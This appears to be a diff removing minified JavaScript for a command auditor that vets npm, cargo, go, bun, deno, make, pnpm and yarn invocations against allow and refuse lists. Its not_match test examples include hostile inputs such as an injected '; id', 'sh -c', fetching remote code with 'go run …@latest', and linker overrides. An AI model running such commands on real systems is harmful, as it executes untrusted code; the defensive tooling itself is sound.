-b=>jI(b,t,n,s));return Se([l,...await Promise.all(C)])}const m=c==="start";if(r==="script-or-tool"&&!m){if(d)return l;if(Ks(
-c))return Se([l,await fc(n,B,a)]);if(!/^[\w:.-]*\w[\w:.-]*$/.test(c)){const C=[et("outside-code",e.program,a)];return Se(
-[l,{targets:[],problems:C}])}}const g={script:c,passes:o.some(({name:C})=>C==="--if-present")};return Se([l,ue("npm-scri\
-pt-missing",u,g,m?"error":void 0)])}function Gp({data:t}){return t.starts==="script-or-tool"||t.starts==="script-tool-or\
--file"}function Hp({anyPackage:t,flags:e,passthrough:n},{data:s}){const r=[...e.map(({name:i})=>i),...n.map(({text:i})=>i)];
-return t===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function PI({tree:t,directory:e},n,s){const r=Ur(
-t,"package.json").flatMap(({path:c})=>c.split("/").includes("node_modules")?[]:ie.posix.dirname(c).replace(/^\.$/,"")),i=c=>t.
-stat(ie.posix.join(c,"package.json"))!==void 0,o=n?r:Ys(e).filter(i).slice(0,1);if(o.length===0)return ue("package-json-\
-missing",s,{directory:e});const a=[];for(const c of o){const u=await qs(t,c);if(u===Xt)return ue("package-json-invalid",
-s,{path:ie.posix.join(c,"package.json")});u!==void 0&&a.push({directory:c,manifest:u})}return a}async function jI({directory:t,
-manifest:e},{operands:[n],passthrough:s},r,i){const o={...r,directory:t},{text:a="",span:c={start:0,end:0}}=n??{},u=vp(e,
-t,{event:a,words:s});return Se([await Np(o,u,c,i),{targets:[],problems:_p(u,a,o,c)}])}const MI=5;async function GI(t,e,n,s){
-const r=HI(t,e,n);if("problems"in r)return r;const{subcommand:i,starts:o,operands:a,module:c,launched:u}=t,[l]=a,d=[zI(e,
-n,hc(t)),...ZI(t,r),await DI(t,n)],B={subcommand:i??l?.text??"",span:hc(t)};if(d.push(VI(e,r,B)),c!==void 0&&(o!=="modul\
-e"||u)&&d.push(qI(e,r,c)),l!==void 0&&o==="file"&&d.push(KI(t,e,r)),l!==void 0&&o==="module"&&d.push(WI(r,l,t.passthrough)),
-!Gp(e))return Se(d);if(i==="run"||i==="exec"||i==="script-or-tool")d.push(await Mp(t,e,r,s));else if(i!==void 0&&Hp(t,e)){
-const f={text:i,span:hc(t),quoted:!1},h={...t,subcommand:"run",operands:[f]};d.push(await Mp(h,e,r,s))}return Se(d)}function hc({
-operands:t,flags:e}){return t[0]?.span??e[0]?.span??{start:0,end:0}}function HI({flags:t},e,n){let s=n;for(const{name:r,
-value:i,span:o}of t){if(i===void 0||!yf(e,r))continue;const a=Ih(s,i,o);if("problems"in a)return a;s={...n,directory:a.path}}
-return s}function zI({program:t,data:e},{tree:n,changed:s},r){if(e.build_files.length===0)return $e;const i=UI(n),o=i.get(
-e)??JI(n,e.build_files);i.set(e,o);const a=o.filter(u=>s.has(u)),c=o.slice(0,MI);return Se([o.length===0?$e:ue("build-fi\
-les-unread",r,{program:t,files:c,count:o.length}),...a.map(u=>ue("target-changed",r,{path:u}))])}const UI=Vt(()=>new Map);
-function JI(t,e){const n=s=>e.some(r=>mi(r.includes("/")?s:ie.posix.basename(s),r,{dot:!0}));return[...t.files()].flatMap(
-({path:s})=>!vt(s,"node_modules")&&n(s)?s:[])}function ZI({operands:t,flags:e,starts:n,subcommand:s,family:r},i){const o=r&&
-Gp(r)&&s!=="test";return[...(n===void 0&&!o?t:[]).map(({text:u,span:l})=>({text:u.replace(/::.*$/s,""),span:l})),...e.flatMap(
-({value:u,span:l})=>u===void 0?[]:[{text:u,span:l}])].map(({text:u,span:l})=>{const d=xe(ct(i,u));return d===void 0||d===
-""?$e:vt(d,".git",{ignoreCase:!0})?ue("target-outside",l,{path:d,reason:"git"}):Ve(i.tree,d).kind==="outside"?ue("target\
--outside",l,{path:u,reason:"symlink"}):$e})}function KI({operands:[t],parsed:e},n,s){if(t===void 0)return $e;const{targets:r,
-problems:i}=zp(s,t),o=Sa(n,t.text,t.span).length>0,a=r.flatMap(({path:c=""})=>o?[]:Sa(n,c,t.span));return{targets:r.map(
-c=>({...c,...e&&{parsed:e}})),problems:[...i,...a]}}function zp(t,{text:e,span:n}){const s=ln(e,n,t.directory);if(s!==void 0)
-return{targets:[],problems:[s]};const r=Ih(t,e,n);if("problems"in r)return r;if(!lt(r.kind))return ue("target-not-a-file",
-n,{path:e,reason:r.kind});if(!r.tracked)return ue("target-missing",n,{path:e,untracked:!0});const i=xe(ct(t,e))??"";return Ga(
-t,{name:e,path:r.path,wanted:i},n)}function WI(t,e,n){const{text:s,span:r}=e,i=xa(s).find(o=>!o.endsWith("/__init__.py")&&
-t.tree.stat(ct(t,o))!==void 0);if(i===void 0){const o=QA(e,n,qA);return Se([ue("tool-unknown",r,{tool:s}),{targets:[],problems:o}])}
-return zp(t,{text:i,span:r,quoted:!1})}function qI({program:t},{tree:e,base:n,changed:s,directory:r},{text:i,span:o}){const[
-a]=i.split("."),c=[...s].filter(u=>{const[,l=""]=/^(\w+)(?:\.py|\/__init__\.py)$/.exec(ie.posix.relative(r,u))??[];return e.
-stat(u)!==void 0&&n?.stat(u)===void 0&&(l===a||yh(l))});return Up(c,{program:t,subcommand:`-m ${i}`},o)}function VI({program:t,
-data:e},{changed:n,directory:s},{subcommand:r,span:i}){const o=Ys(s).flatMap(c=>e.settings.map(u=>ie.posix.join(c,u))),a=[
-...n].filter(c=>o.some(u=>vt(c,u)));return Up(a,{program:t,subcommand:r},i)}function Up(t,e,n){return Se(t.map(s=>ue("se\
-ttings-changed",n,{...e,path:s})))}function YI(t,e,n){const s=new FS((r,i)=>Jp(r,i,s),n);return Jp(t,e,s)}async function Jp(t,e,n){
-const s=[];for(const r of[t,...li(t)]){const i=await e$(r,e);if("rule"in i)s.push({targets:[],problems:[i]});else for(const o of i)
-s.push(await XI(o,e,n))}return Se(s)}function XI(t,e,n){const{program:s,family:r}=t;return r!==void 0?GI(t,r,e,n):s==="n\
-ode"?KT(t,e):SI(t,e,n)}const QI=/^[\w:.@/-]{1,200}$/;async function e$(t,e){const{selects:n,...s}=t,[r]=s.operands;if(n===
-void 0||r===void 0)return[t];const{text:i,span:o}=r,a=be("outside-code",o,{program:"npm",flag:i}),c=t$(i,n);if(c===void 0)
-return a;const l=[...(await zt(e.tree,e.directory))?.scripts.keys()??[]].filter(c);return l.length===0?be("npm-script-mi\
-ssing",o,{script:i,passes:!1}):l.every(d=>QI.test(d))?l.map(d=>({...s,operands:[{...r,text:d}]})):a}function t$(t,e){const n=i=>e===
-"wildcard"?i.replaceAll("/",":"):i.replace(/[:/]/g,n$),s=Vs(n(t));if(!s?.every(i=>i.split(/[:/]/).every(Kh)))return;const r={
-dot:e==="wildcard"};return i=>s.some(o=>mi(n(i),o,r))}function n$(t){return t===":"?"/":":"}const Zp={start:0,end:0},s$=200;
-function Kp({steps:t}){return t.flatMap(e=>e.command?.nested?Kp(e.command.nested):[e])}async function Wp(t,e,n={left:s$}){
-const{subcommand:s,flags:r}=t;if(s===void 0)return;const{project:i,selected:o,runs:a,packages:c}=await bp(t,e,Zp);if(i===
-void 0)return;const u=await hs({...e,directory:i}),l=await qp(e,i);if("unread"in u||l===void 0)return;const{settings:d}=u,
-B=B$.some(C=>C in d);if(l.devEngines!==void 0||B)return;const f=[],h=f$(r,d);for(const C of c){const b=await qp(e,C);if(b===
-void 0||r$(b))return;const y=a.filter(O=>O.directory===C),D=y.length===0?await c$(t,e,C):void 0;D!==void 0&&f.push({...Vp(
-b),...D,directory:C});for(const O of y){const v=await i$(O,e,h,n);f.push({...Vp(b),...v})}}const m=d["node-options"],{prefix:g}=Wa(
-t);return{subcommand:s,directory:e.directory,project:i,prefixed:g!==void 0,inWorkspaces:o,config:h,...typeof m=="string"&&
-{nodeOptions:m},steps:f}}async function qp({tree:t},e){const n=await ps(t,ct({directory:e},"package.json"));return n===void 0||
-n===Xt?void 0:gt(n)}function r$({bin:t,directories:e}){return!t&&"bin"in gt(e)}function Vp(t){const{name:e,version:n}=t;
-return{packageId:e&&n?`${String(e)}@${String(n)}`:"",packageEnv:h$(t)}}async function i$(t,e,n,s){const{directory:r,event:i,
-body:o}=t,a=oc(t),c={...e,directory:r},u=l$(a),l=await a$(u,c,{config:n,budget:s}),d=t.words.map(f=>f.text),B=u&&{...u,...l&&
-{nested:l}};return{directory:r,event:i,body:o,words:d,text:a,...B&&{command:B}}}const o$=new Set(["--if-present","--incl\
-ude-workspace-root","--workspace","--workspaces"]);async function a$(t,e,{config:n,budget:s}){if(!(t?.argv[0]==="npm"&&Object.
-keys(t.env).length===0)||n.npm_config_ignore_scripts==="true"||(s.left-=1,s.left<0))return;const i=t.argv.slice(1).map(u=>({
-text:u,span:Zp,quoted:!0})),{invocation:o,problems:a}=ch(i),c=o.flags.every(({name:u})=>o$.has(u));if(!(a.length>0||!c))
-return Wp(o,e,s)}async function c$(t,{tree:e},n){const s=kp(t),r=(await zt(e,n))?.scripts.has(s??"");if(!(s===void 0||r||
-Wa(t).ifPresent))return{event:s,words:[],text:""}}function u$(t){return pa(t)||ha(t)||t==="nohup"}function l$(t){const{words:e,
-assignments:n,refused:s,problems:r}=un(t),i=r.every(({rule:l,severity:d})=>l==="assignment-refused"||d==="warning"&&l!==
-"unquoted-glob"),o=r.filter(({rule:l})=>l==="assignment-refused").length,[a]=e;if(!i||o!==s.length||a===void 0||u$(a.text)||
-a.text.includes("="))return;const c=[...n,...s].sort((l,d)=>l.span.start-d.span.start);if(c.some(({name:l})=>l==="PATH"))
-return;const u=Object.fromEntries(c.map(({name:l,value:d})=>[l,d]));return{argv:e.map(l=>l.text),env:u}}const d$=new Set(
-`browser cache cache-max cache-min fetch-retries if-present include-workspace-root init.author.email
-  init.author.name init.author.url init.license init.version legacy-bundling min-release-age offline
-  prefix update-notifier workspace workspaces`.split(/\s+/)),B$=["also","dev","include","omit","only","optional","produc\
-tion"];function f$(t,e){const n=Object.entries(e).filter(([i,o])=>["harmless","honoured"].includes(za(i,o))),s=t.map(({name:i,
-value:o,negated:a})=>[i.slice(2),o??a!==!0]),r=[...n,...s].filter(([i])=>!d$.has(i));return Object.fromEntries(r.map(([i,
-o])=>[`npm_config_${i.replaceAll("-","_").toLowerCase()}`,Yp(o)]))}function Yp(t){return Array.isArray(t)?t.map(Yp).join(
-`
-
-`):t==null||t===!1?"":String(t).trim()}function h$(t){const{name:e,version:n,config:s,engines:r,bin:i}=t,o={};return pc(
-{name:e,version:n,config:s,engines:r,bin:p$(i,e)},"npm_package_",o),Object.fromEntries(Object.entries(o).filter(([a])=>/^[A-Za-z_]\w*$/.
-test(a)))}function pc(t,e,n){for(const[s,r]of Object.entries(t))if(r!==void 0)if(r===null||r===!1)n[`${e}${s}`]="";else if(Array.
-isArray(r))for(const[i,o]of r.entries())pc({[`${s}_${i}`]:o},e,n);else typeof r=="object"?pc(r,`${e}${s}_`,n):n[`${e}${s}`]=
-String(r)}function p$(t,e){const r=Object.entries(hi(t,typeof e=="string"?e:"")??{}).map(([i,o])=>[ie.posix.basename(Xp(
-i)),Xp(o)]).filter(([i,o])=>i&&o);return r.length>0?Object.fromEntries(r):void 0}function Xp(t){return ie.posix.join("/",
-t.replaceAll("\\","/")).slice(1)}const m$=new Set;async function g$(t,e={}){const n=b$(t,e),{tree:s,base:r,changed:i=m$,
-cwd:o="",clock:a,programs:c=Kr}=e,{isOutput:u}=e;if(n.invocation===void 0||n.argv===null)return n;if(s===void 0)return{...n,
-problems:[...n.problems,...C$(n.invocation)]};const l={tree:s,directory:o,changed:i,families:c,...r&&{base:r},...u&&{isOutput:u}},
-{invocation:d}=n,{targets:B,problems:f}=await YI(d,l,a);return{...n,...await y$(d,B,l),targets:B,problems:A$(n.problems,
-f).map(h=>O$(h,n.command))}}function C$(t){return[t,...li(t)].flatMap(({subcommand:e,operands:[n]})=>e==="exec"&&n&&Ks(n.
-text)&&!qr(n.text)?[be("tool-unknown",n.span,{tool:n.text})]:[])}async function y$(t,e,n){if(t.program!=="npm"&&t.program!==
-"npx")return{};const s=await Wp(t,n),r=e.some(({kind:a,via:c})=>a==="package_binary"&&c===void 0),o=(s?Kp(s).some(({text:a})=>w$.
-test(a)):!r)?await XS(n.tree,n.changed):[];return{...s&&{scripts:s},...o.length>0&&{npmSettings:o}}}const w$=/(?:^|[^\w.-])np[mx](?![\w.-])/;
-function b$(t,{tree:e,cwd:n="",programs:s=Kr}={}){if(typeof t!="string")return E$(t);const{words:r,assignments:i,problems:o}=un(
-t,e&&jn(e,n)),a=$f(o),[c]=r,u=(C,b,y)=>({command:t,words:r,assignments:i,argv:C,...y===void 0?void 0:{invocation:y},targets:[],
-problems:b});if(c===void 0)return u(null,a);const l=ga({problems:a})?r.map(({text:C})=>C):null,{program:d,problem:B}=v$(
-t,r,s);if(B?.rule==="sentence")return u(l,[B,...a]);if(d===void 0)return u(l,[...a,B]);const f=_$(r,a).slice(1),{invocation:h,
-problems:m}=Ta(d,f,s),g=Zh(h,n);return u(l,[...a,...m,...g],h)}function _$(t,e){const n=e.find(s=>s.rule==="shell-operat\
-or"||Dn(s,"line-break")&&!s.args.quoted);return n===void 0?t:t.filter(({span:s})=>s.start<n.span.start)}function E$(t){const e=t===
-null?"null":Array.isArray(t)?"array":typeof t,n=be("command-not-text",{start:0,end:0},{type:e});return{command:"",words:[],
-assignments:[],argv:null,targets:[],problems:[n]}}const k$=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;
-function v$(t,e,{allowed:n,offered:s}){const[r]=e,i=r?.text??"",o=fs(i)?i:n.get(i);if(o!==void 0)return{program:o};const a=r?.
-span??{start:0,end:0},c=(d,B)=>({program:void 0,problem:be(d,a,B)}),[,u]=k$.exec(i)??[];if(u===void 0&&fS(t)){const d=e.
-at(-1)?.span.end??a.end;return{program:void 0,problem:be("sentence",{start:a.start,end:d},{})}}const l=x$(i,s);return/[\\/]/.
-test(i)?c("program-by-path",{program:i,...l}):u!==void 0?c("program-look-alike",{program:i,meant:u.toLowerCase()}):c("pr\
-ogram-not-allowed",{program:i,group:at(i)?.kind??(Us.has(i)?"npx":"other"),...l,allowed:[...n.keys()]})}const D$=new Map(
-[["gmake","make"],["bunx","bun"],["pnpx","pnpm"],["yarnpkg","yarn"],["uvx","uv"],["py.test","pytest"],["py","python"]]);
-function x$(t,e){const n=e(t);if(n!==void 0)return{offered:n};const s=t.replace(/^.*[\\/]/,"").replace(/\.(?:exe|cmd|bat|ps1)$/i,
-"").replace(/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),r=D$.get(s)??s,i=e(r);return i===void 0?{offered:""}:{offered:i,word:r}}
-function O$(t,e){const n=e.slice(t.span.start,t.span.end);return Dn(t,"target-missing")&&/^[^'"\s]*\\[^'"\s]*$/.test(n)?
-{...t,args:{...t.args,written:n}}:t}function A$(t,e){const n=new Set(t.map(Qp)),s=[...t];for(const r of e){const i=Qp(r);
-n.has(i)||(n.add(i),s.push(r))}return s}function Qp({rule:t,span:e,args:n}){return JSON.stringify([t,e.start,e.end,n])}const S$=Et(
-import.meta.url)("node:timers/promises"),em=null;async function Oz(t,e){const n=new AbortController,s=()=>{for(const o of em)
-process.off(o,r)},r=()=>{s(),n.abort()};let i=!1;process.once("exit",()=>{i||(process.exitCode=t)});for(const o of em)process.
-on(o,r);try{await e(n.signal),i=!0}finally{s()}}const T$={wholeMs:3e5,scriptsMs:6e4},I$=50,$$=5e3;class R${#e;#t;#s=0;#i=0;#r=er();#n=er();#c=Promise.
-resolve();constructor(e,n={}){this.#e=e,this.#t={...T$,...n}}tick(){const e=this.#c.then(()=>this.#u());return this.#c=e.
-catch(()=>{}),e}async tickScript(){this.#i+=this.#o(),await this.tick();const{scriptsMs:e}=this.#t;return this.#i>e?e/1e3:
-void 0}async all(e,n){const s=await Promise.all(e.map(async r=>(await this.tick(),n(r))));return await this.tick(),s}async#u(){
-this.#o(),er()-this.#n>I$&&(await(0,S$.setImmediate)(),this.#n=er());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,zr.
-VM)("during the audit");if(this.#s>e)throw N$(e)}#o(){const e=er(),n=Math.min(e-this.#r,$$);return this.#r=e,this.#s+=n,
-n}}function N$(t){return new zr.ue("audit_too_long",`The audit takes more than ${t/1e3} seconds, which is the limit of a\
- whole audit.`,"Split the change, or reduce the number and length of its commands and npm scripts.")}function er(){return process.
-uptime()*1e3}const F$={path:"node_modules",at:"anywhere"},tm={dot:!0,nonegate:!0};function nm(t=[],e=[F$]){const n=t.flatMap(
-o=>xe(o)||[]),s=n.length>0?$a(n,tm):()=>!1,r=o=>e.some(a=>a.at!=="home"&&(o===a.path||a.at==="anywhere"&&o.endsWith(`/${a.
-path}`))),i=(o,a)=>a(o)||Yo(o).some(a);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>n.some(a=>sm(
-a.split("/"),o.split("/")))}}function Az(t){const{cover:e}=nm([],t);return{cover:()=>!0,areBuilt:n=>!e(n),mayBeIn:()=>!1}}
-function sm([t,...e],[n,...s]){return t===void 0?!1:n===void 0||t.includes("**")||/[{(]/.test(t)?!0:$a.isMatch(n,t,tm)&&
-sm(e,s)}function Sz(t,e,n){const s=a=>t.stat(a)===void 0&&(n.cover(a)||n.mayBeIn(a))&&foldersAbove(a).every(c=>(t.stat(c)?.
-kind??"directory")==="directory"),r=new Map,i=a=>(r.has(a)||r.set(a,e.stat(a)),r.get(a)),o=a=>{if(!s(a))return t.stat(a);
-const c=i(a),u=n.cover(a)||c?.kind==="directory";if(!(!c||!u))return{...c,tracked:!1,...n.areBuilt(a)&&{built:!0}}};return{
-label:t.label,...t.attributes&&{attributes:t.attributes},stat:o,readlink:a=>(s(a)?e:t).readlink(a),read:(a,c)=>(s(a)?e:t).
-read(a,c),list:a=>{const c=e.list(a).flatMap(({path:u})=>(s(u)?o(u):void 0)??[]);return[...t.list(a),...c].sort(byEntryPath)},
-files:()=>t.files()}}const L$="warnings|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_\
-style",P$={flags:{text:"exact ignored include-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"\
-list"}},rm={operands:"text*",behind:P$,flags:{"skips-tests":"no-run"}},j$={risk:"write",alone:"only-prints",flags:{text:`\
-
-      color= frozen locked offline quiet,q verbose,v all all-features all-targets bench? benches bin? bins doc
-      example? examples exclude= F,features= jobs,j= keep-going lib message-format= no-default-features no-deps
-      no-fail-fast package,p? profile= release,r target? test? tests workspace
-    `,path:"C= manifest-path=",output:"target-dir="},refused:{"only-prints":"tree metadata locate-project pkgid version \
-help","uses-network":"install uninstall add remove update fetch vendor init new publish audit outdated","writes-files":"\
-package clean fix"},subcommands:{"test,t,bench":rm,"build,b,check,c,run,r":{operands:"text*"},"doc,d":{operands:"text*",
-flags:{text:"document-private-items","outside-code":"open"}},clippy:{operands:"text*",flags:{"tool-writes":"fix allow-di\
-rty allow-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(
-t=>`${t}=${L$}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{
-flags:{text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...rm,flags:{text:"E,filterset= r\
-etries= test-threads= partition=","skips-tests":"no-run no-tests="}}},directory_flags:["-C"],settings:[".cargo/config.to\
-ml",".cargo/config","rust-toolchain.toml","rust-toolchain"],build_files:["Cargo.toml","build.rs","clippy.toml","rustfmt.\
-toml"],dependencies:[{path:"target",at:"anywhere"},{path:"vendor",at:"anywhere"},{path:".cargo/bin",at:"home"},{path:".c\
-argo/git",at:"home"},{path:".cargo/registry",at:"home"},{path:".rustup",at:"home",variable:"RUSTUP_HOME"}],environment:{
-CARGO_NET_OFFLINE:"true",CARGO_TERM_COLOR:"never",RUSTUP_AUTO_INSTALL:"0"},match:["cargo test --workspace --all-features\
- name -- --nocapture --test-threads=1","cargo clippy --all-targets -- -D warnings","cargo fmt --all -- --check","cargo r\
-un -- --version"],not_match:["cargo --config build.rustc-wrapper=./x test","cargo +nightly test","cargo clippy -- -Clink\
-er=./x","cargo fmt -- --emit files","cargo test -- --logfile /tmp/x"]},M$={risk:"write",alone:"only-prints",flags:{text:"\
-a asan cover covermode= coverpkg= json mod= msan p= race tags= trimpath v work x",path:"C=",config:"modfile= overlay=",output:"\
-o=","outside-code":"exec=","only-prints":"n h help"},refused:{"only-prints":"list version doc help","uses-network":"get \
-install bug","outside-code":"env generate tool work telemetry","writes-files":"clean fix"},subcommands:{test:{operands:"\
-import*",flags:{text:"args+ bench= benchmem benchtime= count= cpu= failfast parallel= run= short shuffle= skip= timeout=\
- vet=",output:"blockprofile= coverprofile= cpuprofile= memprofile= mutexprofile= outputdir= trace=","never-ends":"fuzz=",
-"only-prints":"list=","skips-tests":"c"}},build:{operands:"import*"},vet:{operands:"import*",flags:{"tool-writes":"fix"}},
-run:{starts:"package",alone:"only-prints"},fmt:{operands:"import*",unless:{"tool-writes":"n"}},mod:{alone:"only-prints",
-refused:{"only-prints":"graph why help","uses-network":"download edit init vendor"}},"mod verify":{},"mod tidy":{unless:{
-"tool-writes":"diff"},flags:{text:"diff"}}},directory_flags:["-C"],build_files:["go.mod","go.work","go.env"],dependencies:[
-{path:"vendor",at:"anywhere"},{path:"go/pkg/mod",at:"home",variable:"GOMODCACHE"}],environment:{GOPROXY:"off",GOTOOLCHAIN:"\
-local",GOTELEMETRY:"off",GOENV:"off",GOVCS:"*:off"},match:['go test -race -run "TestA|TestB" ./pkg/...',"go test ./... -\
-args -x","go mod verify"],not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldfl\
-ags=-fuse-ld=x ./..."]},G$={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"script-tool-or-file",alone:"only-prints",
-flags:{text:`
-      bail bun,b concurrency= conditions= coverage coverage-reporter= filter,F= if-present no-install
-      only-failures randomize reporter= rerun-each= retry= seed= silent smol test-name-pattern,t= timeout=
-      todo workspaces sequential parallel
-    `,path:"cwd=",config:"config,c= tsconfig-override=",code:"jsx-import-source=",preload:"preload,r= require= import=",
-output:"coverage-dir= reporter-outfile=",weakens:"env-file= unhandled-rejections=","outside-code":"eval,e+ print,p+ insp\
-ect? define,d= drop= loader,l= registry= shell=","never-ends":"watch hot","uses-network":"install=","reads-stdin":"inter\
-active","tool-writes":"update-snapshots","skips-tests":"only pass-with-no-tests","only-prints":"revision"},refused:{"use\
-s-network":`
-      x bunx install i ci add a remove rm update link unlink patch patch-commit upgrade feedback publish
-      audit outdated info dev
-    `,"outside-code":"exec repl create c init","writes-files":"build pm","only-prints":"why discord completions"},subcommands:{
-test:{operands:"tests*"},run:{starts:"script-tool-or-file",alone:"only-prints"}},directory_flags:["--cwd"],selecting_flags:[
-"--filter","-F","--workspaces"],settings:["bunfig.toml",".bunfig.toml"],dependencies:[{path:"node_modules",at:"anywhere"},
-{path:".bun/install/cache",at:"home",variable:"BUN_INSTALL_CACHE_DIR"}],environment:{BUN_CONFIG_NO_INSTALL:"1",DO_NOT_TRACK:"\
-1",BUN_RUNTIME_TRANSPILER_CACHE_PATH:"0"},match:["bun test src/a.test.ts --bail","bun lint","bun run --filter a test","b\
-un scripts/check.ts"],not_match:["bun --eval 1","bun test --preload ../x.ts","bun run ../x.ts","bun ci/e.sh","bun ci/x.w\
-asm"]},H$={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
-      allow-all,A allow-read,R allow-write,W allow-net,N allow-env,E allow-sys,S allow-run allow-ffi
-      deny-read deny-write deny-net deny-env deny-sys deny-run deny-ffi no-prompt cached-only check
-      no-check no-remote no-npm no-lock frozen quiet,q seed= ignore= parallel fail-fast shuffle filter=
-      doc trace-leaks reporter= rules-tags= rules-include= rules-exclude= permit-no-files
-    `,config:"config,c= import-map= lock?",weakens:"env-file",preload:"preload= require= import=",node:"v8-flags=",output:"\
-coverage junit-path= output,o=","outside-code":"inspect inspect-brk","never-ends":"watch?","uses-network":"reload,r","sk\
-ips-tests":"no-run","tool-writes":"fix","only-prints":"help,h?"},refused:{"outside-code":"eval","reads-stdin":"repl","ne\
-ver-ends":"serve jupyter lsp","uses-network":`
-      install i add remove uninstall cache upgrade outdated update approve-scripts publish deploy sandbox
-      x create init
-    `,"writes-files":"compile clean bundle","only-prints":"info doc types completions coverage help"},subcommands:{"test\
-,bench":{operands:"tests*"},run:{starts:"file",alone:"only-prints"},check:{},lint:{flags:{"only-prints":"rules"}},fmt:{unless:{
-"tool-writes":"check"}},task:{operands:"text*",alone:"only-prints",refused:{"never-ends":"dev serve server start watch"},
-flags:{"outside-code":"eval",path:"cwd="}}},build_files:["deno.json","deno.jsonc"],dependencies:[{path:"node_modules",at:"\
-anywhere"},{path:"vendor",at:"root"},{path:".cache/deno",at:"home",variable:"DENO_DIR"}],environment:{DENO_NO_UPDATE_CHECK:"\
-1",DENO_NO_PROMPT:"1",DENO_NO_PACKAGE_JSON:"0"},match:["deno test --allow-read=/tmp --allow-write=/tmp","deno fmt --chec\
-k","deno task test"],not_match:["deno test --allow-ffi=/tmp/x.so tests","deno run npm:cowsay","deno run x.sh","deno x.wa\
-sm"]},z$={risk:"write",operands:"text*",completes:!0,flags:{text:`
-      B,always-make b debug? d j,jobs? k,keep-going l,load-average,max-load? m output-sync,O?
-      no-print-directory,w print-directory no-keep-going,stop,S R,no-builtin-variables r,no-builtin-rules
-      s,silent,quiet no-silent shuffle? trace warn-undefined-variables
-    `,path:"C,directory= I,include-dir=",config:"f,file,makefile=","outside-code":"E,eval= e,environment-overrides",weakens:"\
-i,ignore-errors","skips-tests":"o,old-file,assume-old= W,what-if,new-file,assume-new= t,touch","only-prints":"n,just-pri\
-nt,dry-run,recon p,print-data-base q,question h,help v,version"},refused:{"uses-network":"install install-~ bootstrap pu\
-blish publish-~ deploy deploy-~ release upload","writes-files":"uninstall","never-ends":"dev serve server start watch"},
-variables:["V","VERBOSE"],directory_flags:["-C","--directory"],build_files:["Makefile","makefile","GNUmakefile","*.mk","\
-CMakeLists.txt","configure"],environment:{MAKEFLAGS:"",GNUMAKEFLAGS:"",MAKEFILES:""},match:["make","make -C packages/a t\
-est","make -j4 check V=1","make -f build/Makefile test"],not_match:["make test SHELL:=./x",'make test ARGS="; id"',"make\
- -I ../x test","make test CC=-x"]},U$={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
-      aggregate-output color,no-color filter,F= filter-prod= if-present include-workspace-root loglevel=
-      no-bail no-sort bail parallel recursive,r reporter= reporter-hide-prefix sequential silent,s sort
-      stream w workspace-concurrency= workspace-root
-    `,path:"dir,C= state-dir=",weakens:"env-file=","skips-tests":"dry-run","outside-code":"config~ node-options= script-\
-shell= shell-emulator shell-mode,c global,g modules-dir= virtual-store-dir= registry= userconfig= prefix=","only-prints":"\
-help,h version,v"},refused:{"uses-network":`
-      dlx pnpx add install i ci update up upgrade remove rm uninstall un link ln unlink import rebuild rb
-      prune dedupe fetch install-test it approve-builds ignored-builds patch patch-commit patch-remove
-      deploy publish login logout adduser dist-tag owner unpublish deprecate team token access audit
-      outdated search view info show ping whoami docs repo bugs
-    `,"outside-code":"create init config c set get env setup self-update store server cache restart","writes-files":"pac\
-k version","only-prints":"list ls la ll why root bin licenses help prefix completion"},subcommands:{"test,t,tst,start,st\
-op":{starts:"own-script"},"run,run-script":{starts:"script",alone:"only-prints"},exec:{starts:"tool"}},directory_flags:[
-"-C","--dir"],selecting_flags:"-r --recursive -F --filter --filter-prod -w --workspace-root".split(" "),settings:["pnpm-\
-workspace.yaml",".pnpmfile.cjs",".pnpmfile.mjs"],dependencies:[{path:"node_modules",at:"anywhere"}],environment:{npm_config_manage_package_manager_versions:"\
-false",npm_config_package_manager_strict:"false",npm_config_verify_deps_before_run:"false",pnpm_config_verify_deps_before_run:"\
-false",COREPACK_ENABLE_NETWORK:"0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["pnpm lint --max-\
-warnings 0","pnpm --filter a... test","pnpm vitest run --coverage"],not_match:['pnpm exec sh -c "id"',"pnpm --config.scr\
-ipt-shell=./x test","pnpm exec tsx -e 1"]},J$={starts:"script-or-tool",alone:"uses-network",flags:{text:`
-      frozen-lockfile json mutex= no-progress non-interactive offline silent,s verbose top-level,T
-      binaries-only,B include= exclude= from= jobs,j= interlaced,i parallel,p topological,t topological-dev
-      recursive,R worktree,W since? all,A no-private
-    `,path:"cwd=","outside-code":"use-yarnrc= modules-folder= registry= scripts-prepend-node-path? prefix= require= insp\
-ect? inspect-brk?","only-prints":"help,h version,v"},refused:{"uses-network":`
-      dlx add install remove up upgrade upgrade-interactive link unlink import dedupe rebuild unplug patch
-      patch-commit global autoclean stage policies set npm publish login logout owner tag team audit
-      outdated info search
-    `,"outside-code":"create init node config plugin cache unset generate-lock-entry","writes-files":"pack version","onl\
-y-prints":"list why licenses bin explain help constraints versions check search-bin"},subcommands:{test:{starts:"own-scr\
-ipt"},run:{starts:"script-or-tool",alone:"only-prints"},workspace:{starts:"script-or-tool",skips:1,any_package:!0,refused:{
-"outside-code":"add remove install up upgrade dlx exec node npm publish pack link"}},"workspace run":{starts:"script-or-\
-tool",any_package:!0,alone:"only-prints"},workspaces:{alone:"only-prints"},"workspaces run":{starts:"script-or-tool",any_package:!0},
-"workspaces foreach":{starts:"script-or-tool",any_package:!0,refused:{"outside-code":"exec"}},"workspaces foreach run":{
-starts:"script-or-tool",any_package:!0},exec:{starts:"tool"}},directory_flags:["--cwd"],settings:".yarnrc.yml .yarnrc .e\
